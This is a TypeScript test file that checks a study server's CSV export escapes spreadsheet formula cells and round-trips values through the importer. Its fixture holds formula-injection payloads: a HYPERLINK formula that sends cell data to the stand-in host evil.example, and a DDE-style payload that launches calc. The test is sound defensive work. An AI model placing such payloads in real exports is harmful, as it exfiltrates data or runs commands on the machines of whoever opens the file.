/**
 * The server's study export escapes formula cells (issue 15, item 6) on both back ends: a
 * participant id or covariate that a spreadsheet would run (=, +, -, @, tab) is written with a
 * leading ' and quoted, numbers stay numbers, and the importer reads the folder back to exactly the
 * values the API was given; `validateStudy` accepts it.
 */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { loadStudy } from '../../src/data/load.js';
import { validateStudy } from '../../src/data/index.js';
import { BACKENDS, downloadExport, exportAndWait, reportBody, setupStudy, startHarness, type Harness } from './helpers.js';

const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell);
const rawCells = (path: string): string[] => (parse(readFileSync(path, 'utf8'), { bom: true, relax_column_count: true }) as string[][]).flat();

const COVARIATES = {
  note: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  remark: '-5 points',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  plus: '+1+1',
  tab: '\t=A1',
  quoted: "'=A1",
  score: -3.5,
  scoreText: '-3.5',
};

for (const b of BACKENDS) {
  describe.skipIf(b.skip)(`study export on ${b.name}: formula cells`, () => {
    let h: Harness;
    beforeAll(async () => { h = await startHarness(b.name); });
    afterAll(async () => { await h?.close(); });

    it('escapes them in every CSV and the importer reads back the values the API was given', async () => {
      const s = await setupStudy(h);
      for (const [pid, covariates] of [['-P1', COVARIATES], ['P2', { note: '=1+1', remark: 'ok', score: 2 }]] as const) {
        const inv = await h.req('POST', `/studies/${s.studyId}/participants`, { token: s.researcher, body: { participantId: pid, covariates } });
        expect(inv.status, inv.body).toBe(201);
        const e = await h.req('POST', '/enrol', { body: { code: inv.json.enrolCode } });
        const r = await h.req('POST', '/me/reports', { token: e.json.token, body: reportBody(`-r-${pid}`, new Date(Date.now() - 90_000).toISOString(), 40) });
        expect(r.status, r.body).toBe(201);
      }
      const { job } = await exportAndWait(h, s.researcher, s.studyId, { name: 'formulas' });
      expect(job.status, job.error).toBe('done');
      const dir = await downloadExport(h, s.researcher, job); // sealed at rest on the server: the download is the study folder

      for (const f of ['participants.csv', 'reports.csv', 'activity.csv']) {
        for (const c of rawCells(join(dir, f))) expect(runsAsFormula(c), `${f}: ${JSON.stringify(c)}`).toBe(false);
      }
      const participantsText = readFileSync(join(dir, 'participants.csv'), 'utf8');
      expect(participantsText).toContain(`"'-P1"`);
      expect(participantsText).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
      expect(participantsText).toMatch(/,-3\.5,-3\.5(\n|,)/); // the number and the numeric text: plain

      const { study, issues } = await loadStudy(dir, { progress: false });
      expect(issues).toEqual([]);
      const p1 = study!.participants.find((p) => p.id === '-P1')!;
      expect(p1.covariates).toEqual(Object.fromEntries(Object.entries(COVARIATES).map(([k, v]) => [k, String(v)])));
      expect(study!.participants.find((p) => p.id === 'P2')!.covariates).toMatchObject({ note: '=1+1', remark: 'ok', score: '2' });
      expect([...study!.reports.id].sort()).toEqual(['-r-P2', '-r--P1'].sort());
      const v = await validateStudy(dir, { progress: false, allowMissingModality: true }); // no activity window fills here
      expect(v.issues).toEqual([]);
      expect(v.ok).toBe(true);
    });
  });
}
